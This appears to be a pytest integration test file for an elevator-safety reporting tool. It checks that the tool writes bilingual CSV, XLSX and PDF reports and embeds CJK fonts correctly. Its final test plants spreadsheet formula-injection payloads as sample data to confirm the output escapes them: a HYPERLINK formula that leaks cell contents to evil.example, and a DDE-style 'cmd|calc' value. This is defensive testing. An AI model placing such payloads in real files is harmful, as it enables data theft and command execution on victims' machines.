"""`liftwatch report monthly` writes CSV, XLSX and PDF files in Chinese and English."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import numpy as np
import openpyxl
import pypdf
import pytest
import reportlab
from liftwatch.launcher.cli import app
from liftwatch.reports.pdf import CJK_FONT_CANDIDATES
from numpy.typing import NDArray
from PIL import Image
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.ttfonts import TTFont, TTFontFile
from reportlab.pdfgen import canvas
from typer.testing import CliRunner

from tests.fixtures.reports import Fleet

pytestmark = pytest.mark.integration


def _run(fleet: Fleet, tmp_path: Path, fmt: str, lang: str, scope: str = "city") -> Path:
    output = tmp_path / f"report.{lang}.{fmt}"
    result = CliRunner().invoke(
        app,
        [
            "report",
            "monthly",
            "--month",
            "2026-03",
            "--format",
            fmt,
            "--lang",
            lang,
            "--scope",
            scope,
            "--output",
            str(output),
        ],
        env={"LIFTWATCH_DATABASE_URL": fleet.url, "LIFTWATCH_SITE_TIMEZONE": "Asia/Shanghai"},
    )
    assert result.exit_code == 0, result.output
    return output


def _csv_tables(path: Path) -> dict[str, list[list[str]]]:
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    blocks: dict[str, list[list[str]]] = {}
    for i, row in enumerate(rows):
        if not row and i + 1 < len(rows):
            title = rows[i + 1][0]
            blocks[title] = []
            for body in rows[i + 2 :]:
                if not body:
                    break
                blocks[title].append(body)
    return blocks


TITLE_ZH = "电梯安全运行月度报告"
DPI = 144


def _render_glyphs(
    pdf: Path, text: str, tmp_path: Path, box: tuple[float, float, float, float] | None = None
) -> tuple[float, list[NDArray[np.bool_]]]:
    """Render page 1 with poppler (pdftoppm) and cut ``text`` into one ink bitmap per character.

    The characters' box comes from poppler's own text layer (pdftotext -bbox) unless given (in
    points from the top left); full-width characters share it equally. Returns the page's ink share.
    """
    assert shutil.which("pdftoppm"), "install the Debian package poppler-utils (python3 dev.py test does)"
    if box is None:
        layer = subprocess.run(
            ["pdftotext", "-f", "1", "-l", "1", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True
        ).stdout
        found = re.search(r'xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">' + text + "<", layer)
        assert found, f"{text} is not in the text layer poppler reads back"
        box = tuple(float(v) for v in found.groups())  # type: ignore[assignment]
    assert box is not None
    subprocess.run(
        [
            "pdftoppm",
            "-f",
            "1",
            "-l",
            "1",
            "-r",
            str(DPI),
            "-gray",
            "-singlefile",
            "-png",
            str(pdf),
            str(tmp_path / "page"),
        ],
        check=True,
    )
    ink = np.asarray(Image.open(tmp_path / "page.png").convert("L")) < 128
    x0, y0, x1, y1 = (v * DPI / 72 for v in box)
    step = (x1 - x0) / len(text)
    glyphs = []
    for i in range(len(text)):
        cell = ink[int(y0) - 2 : int(y1) + 2, int(x0 + i * step) : int(x0 + (i + 1) * step)]
        rows, cols = np.nonzero(cell)
        glyphs.append(cell[rows.min() : rows.max() + 1, cols.min() : cols.max() + 1] if rows.size else cell[:0, :0])
    return float(ink.mean()), glyphs


def _least_difference(glyphs: list[NDArray[np.bool_]]) -> float:
    """Smallest share of differing ink between two characters' bitmaps: 0 when two look the same
    (tofu boxes all do), or when a character drew nothing."""
    least = 1.0
    for i, a in enumerate(glyphs):
        if a.size == 0:
            return 0.0
        for b in glyphs[i + 1 :]:
            if b.size == 0 or (abs(a.shape[0] - b.shape[0]) <= 2 and abs(a.shape[1] - b.shape[1]) <= 2):
                h, w = min(a.shape[0], b.shape[0]), min(a.shape[1], b.shape[1])
                a_, b_ = a[:h, :w], b[:h, :w]
                least = min(least, float((a_ ^ b_).sum() / max((a_ | b_).sum(), 1)))
    return least


def test_the_glyph_check_sees_tofu(tmp_path: Path) -> None:
    """Control: Chinese drawn with a Latin-only font (reportlab's Vera) renders as boxes or nothing."""
    pdfmetrics.registerFont(TTFont("VeraControl", str(Path(reportlab.__file__).parent / "fonts" / "Vera.ttf")))
    pdf = tmp_path / "tofu.pdf"
    page = canvas.Canvas(str(pdf))
    page.setFont("VeraControl", 18)
    page.drawString(57, 760, TITLE_ZH)
    page.save()
    _, glyphs = _render_glyphs(pdf, TITLE_ZH, tmp_path, box=(57, 842 - 760 - 18, 57 + 18 * len(TITLE_ZH), 842 - 755))
    assert _least_difference(glyphs) == 0.0


def test_csv_headers_and_labels_follow_the_language(reports_fleet: Fleet, tmp_path: Path) -> None:
    zh = _csv_tables(_run(reports_fleet, tmp_path, "csv", "zh"))
    en = _csv_tables(_run(reports_fleet, tmp_path, "csv", "en"))
    assert zh["按故障类型统计"][0] == ["故障类型", "故障数", "万台故障率", "困人数", "误报数"]
    assert zh["按故障类型统计"][1] == ["困人", "5", "5000.0", "4", "1"]
    assert en["Incidents by fault type"][1] == ["Trapped passenger", "5", "5000.0", "4", "1"]
    assert en["Maintenance firms"][1][:4] == ["Firm B", "3", "3", "100.0"]
    rescue = {row[0]: row[1:] for row in en["Entrapment rescue times"][1:]}
    assert rescue["Arrive on site"] == ["3", "30.0", "38.0"]  # 1800 s and 2280 s, in minutes


def test_xlsx_has_one_sheet_per_table(reports_fleet: Fleet, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(_run(reports_fleet, tmp_path, "xlsx", "en"))
    assert "Incidents by elevator age" in book.sheetnames
    sheet = book["Incidents by elevator age"]
    assert [c.value for c in sheet[1]] == ["Age", "Elevators", "Incidents", "Per 10,000 elevators", "Entrapments"]
    assert [c.value for c in sheet[4]] == ["15 years and older", 2, 2, 10000, 1]
    assert len(book["Trend, last 12 months"]["A"]) == 13
    zh = openpyxl.load_workbook(_run(reports_fleet, tmp_path, "xlsx", "zh"))
    assert "按故障类型统计" in zh.sheetnames
    assert [c.value for c in zh["按故障类型统计"][2]] == ["困人", 5, 5000, 4, 1]


def test_chinese_pdf_embeds_a_font_that_renders_the_text(reports_fleet: Fleet, tmp_path: Path) -> None:
    path_zh = _run(reports_fleet, tmp_path, "pdf", "zh")
    pdf = pypdf.PdfReader(path_zh)
    text = "".join(page.extract_text() for page in pdf.pages)
    for expected in (TITLE_ZH, "困人", "维保单位", "时限内到场率", "Firm B"):
        assert expected in text
    fonts = {
        font["/BaseFont"]: font
        for page in pdf.pages
        for font in page["/Resources"]["/Font"].get_object().values()  # type: ignore[index]
        if "/FontDescriptor" in font.get_object() or "/DescendantFonts" in font.get_object()
    }
    embedded = [
        name
        for name, font in fonts.items()
        if any(k in font.get_object()["/FontDescriptor"] for k in ("/FontFile2", "/FontFile3"))
    ]
    assert embedded and all("WenQuanYi" in name or "Liftwatch" in name or "+" in name for name in embedded)
    # Every Chinese character shown has a real glyph in the embedded font (not a .notdef box).
    path, _ = next((p, i) for p, i in CJK_FONT_CANDIDATES if Path(p).exists())
    cmap = TTFontFile(path, subfontIndex=0).charToGlyph
    chinese = {ch for ch in text if "\u4e00" <= ch <= "\u9fff"}
    assert len(chinese) > 30
    assert all(cmap.get(ord(ch), 0) != 0 for ch in chinese)
    # Rendered by poppler: the page has ink, the title reads back from the text layer, and its ten
    # characters are ten different shapes (tofu boxes would all be the same shape).
    ink, glyphs = _render_glyphs(path_zh, TITLE_ZH, tmp_path)
    assert 0.005 < ink < 0.5
    assert len(glyphs) == len(TITLE_ZH) and all(g.shape[0] > 20 and g.shape[1] > 20 for g in glyphs)
    assert _least_difference(glyphs) > 0.3


def test_english_pdf_and_unknown_scope(reports_fleet: Fleet, tmp_path: Path) -> None:
    pdf = pypdf.PdfReader(_run(reports_fleet, tmp_path, "pdf", "en", scope=f"maintainer:{reports_fleet.firm_a}"))
    text = "".join(page.extract_text() for page in pdf.pages)
    assert "Elevator safety monthly report" in text and "Maintenance firm Firm A" in text
    result = CliRunner().invoke(
        app,
        [
            "report",
            "monthly",
            "--month",
            "2026-03",
            "--format",
            "csv",
            "--scope",
            "maintainer:999",
            "--output",
            str(tmp_path / "x.csv"),
        ],
        env={"LIFTWATCH_DATABASE_URL": reports_fleet.url},
    )
    assert result.exit_code == 2 and not (tmp_path / "x.csv").exists()


def test_an_empty_month_still_renders(database_url: str, tmp_path: Path) -> None:
    """No registry, no incidents: empty charts and tables, not a crash."""
    output = tmp_path / "empty.pdf"
    result = CliRunner().invoke(
        app,
        ["report", "monthly", "--month", "2026-03", "--format", "pdf", "--lang", "zh", "--output", str(output)],
        env={"LIFTWATCH_DATABASE_URL": database_url},
    )
    assert result.exit_code == 0, result.output
    text = "".join(page.extract_text() for page in pypdf.PdfReader(output).pages)
    assert "电梯安全运行月度报告" in text and "无" in text


@pytest.mark.parametrize(
    "argv",
    [
        ["monthly", "--month", "2026-03", "--format", "csv", "--output", "{out}"],
        ["refresh"],
    ],
)
def test_cli_says_when_the_database_is_unreachable(argv: list[str], tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    done = CliRunner().invoke(
        app,
        ["report", *[a.replace("{out}", str(out)) for a in argv]],
        env={"LIFTWATCH_DATABASE_URL": "postgresql://postgres@127.0.0.1:1/none?connect_timeout=2"},
    )
    assert done.exit_code == 2 and "cannot reach the database" in done.output
    assert not out.exists()


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_a_firm_named_like_a_formula_stays_text(reports_fleet: Fleet, tmp_path: Path) -> None:
    """The regulator's CSV and XLSX never carry a live formula from registry text (issue 16)."""
    import psycopg

    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    with psycopg.connect(reports_fleet.url, autocommit=True) as conn:
        conn.execute("UPDATE maintenance_firms SET name = %s WHERE name = 'Firm B'", (evil,))
        conn.execute("UPDATE elevators SET district = '@SUM(1+1)*cmd|calc' WHERE district IS NOT NULL")
    text = _run(reports_fleet, tmp_path, "csv", "en").read_bytes().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + evil in cells
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    book = openpyxl.load_workbook(_run(reports_fleet, tmp_path, "xlsx", "en"))
    every = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in every if cell.data_type == "f"] == []
    texts = [cell.value for cell in every if isinstance(cell.value, str)]
    assert "'" + evil in texts and [value for value in texts if value.startswith(FORMULA_STARTS)] == []
